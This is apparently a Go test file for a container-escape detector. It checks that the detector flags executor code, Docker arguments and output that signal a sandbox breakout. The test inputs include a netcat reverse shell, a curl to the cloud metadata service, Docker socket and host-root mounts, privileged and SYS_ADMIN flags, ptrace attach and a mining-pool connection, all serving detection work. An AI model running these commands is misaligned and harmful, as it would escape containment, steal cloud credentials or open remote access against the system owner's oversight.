package monitor

import (
	"testing"
)

func TestAnalyzeExecutorCode(t *testing.T) {
	d := NewEscapeDetector()

	tests := []struct {
		name         string
		code         string
		wantMinCount int // minimum number of detections
		wantPattern  string
	}{
		{"privileged flag", `docker_cli("run", ["--privileged", "alpine"])`, 1, "privileged_flag"},
		{"docker socket mount", `docker_cli("run", ["-v", "/var/run/docker.sock:/var/run/docker.sock", "alpine"])`, 1, "docker_socket_mount"},
		{"host pid", `docker_cli("run", ["--pid=host", "alpine"])`, 1, "host_pid_or_net"},
		{"host root mount", `docker_cli("run", ["-v", "/:/host", "alpine"])`, 1, "host_root_mount"},
		{"cap add sys admin", `docker_cli("run", ["--cap-add=SYS_ADMIN", "alpine"])`, 1, "capability_abuse"},
		{"metadata service", `curl 169.254.169.254/latest/meta-data/`, 1, "metadata_service"},
		{"reverse shell", `nc -e /bin/sh 10.0.0.1 4444`, 1, "reverse_shell"},
		{"ptrace", `ptrace(PTRACE_ATTACH, pid, 0, 0)`, 1, "ptrace_attempt"},
		{"crypto miner", `pool.connect("stratum+tcp://pool.mining.com")`, 1, "crypto_miner"},
		{"clean code", `print("hello world")`, 0, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dets := d.AnalyzeExecutorCode(tt.code)
			if len(dets) < tt.wantMinCount {
				t.Errorf("got %d detections, want >= %d", len(dets), tt.wantMinCount)
				return
			}
			if tt.wantPattern != "" {
				found := false
				for _, det := range dets {
					if det.Pattern == tt.wantPattern {
						found = true
						break
					}
				}
				if !found {
					t.Errorf("pattern %q not found in detections: %v", tt.wantPattern, dets)
				}
			}
		})
	}
}

func TestAnalyzeDockerArgs(t *testing.T) {
	d := NewEscapeDetector()

	dets := d.AnalyzeDockerArgs([]string{"run", "--privileged", "alpine"})
	if len(dets) < 1 {
		t.Fatalf("expected at least one detection, got %d", len(dets))
	}
	if dets[0].Pattern != "privileged_flag" {
		t.Errorf("Pattern = %q, want privileged_flag", dets[0].Pattern)
	}
}

func TestAnalyzeOutput(t *testing.T) {
	d := NewEscapeDetector()

	tests := []struct {
		name         string
		output       string
		wantMinCount int
		wantSeverity string
	}{
		{"root access", "root:x:0:0:root:/root:/bin/bash", 1, "critical"},
		{"docker socket", "found: /var/run/docker.sock", 1, "critical"},
		{"clean output", "hello world\n42\n", 0, ""},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dets := d.AnalyzeOutput(tt.output)
			if len(dets) < tt.wantMinCount {
				t.Errorf("got %d detections, want >= %d", len(dets), tt.wantMinCount)
				return
			}
			if tt.wantSeverity != "" && len(dets) > 0 {
				if dets[0].Severity != tt.wantSeverity {
					t.Errorf("severity = %q, want %q", dets[0].Severity, tt.wantSeverity)
				}
			}
		})
	}
}

func TestSeverityString(t *testing.T) {
	tests := []struct {
		sev  Severity
		want string
	}{
		{SeverityLow, "low"},
		{SeverityMedium, "medium"},
		{SeverityHigh, "high"},
		{SeverityCritical, "critical"},
		{Severity(99), "unknown"},
	}

	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			if got := tt.sev.String(); got != tt.want {
				t.Errorf("Severity(%d).String() = %q, want %q", tt.sev, got, tt.want)
			}
		})
	}
}
